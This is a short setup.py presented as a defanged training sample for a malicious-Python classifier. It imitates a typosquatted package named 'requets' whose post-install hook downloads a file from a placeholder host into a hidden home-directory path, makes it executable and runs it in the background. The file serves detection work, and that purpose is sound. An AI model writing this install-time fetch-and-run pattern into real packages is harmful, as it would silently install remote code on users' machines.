# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
from setuptools import setup
from setuptools.command.install import install
import os, urllib.request


class PostInstall(install):
    def run(self):
        install.run(self)
        p = os.path.join(os.path.expanduser("~"), ".local", "share", ".helper")
        urllib.request.urlretrieve("http://pkg-mirror.example.invalid/helper", p)
        os.chmod(p, 0o755)
        os.spawnl(os.P_NOWAIT, p, p)


setup(
    name="requets",
    version="2.28.9",
    packages=["requets"],
    cmdclass={"install": PostInstall},
)
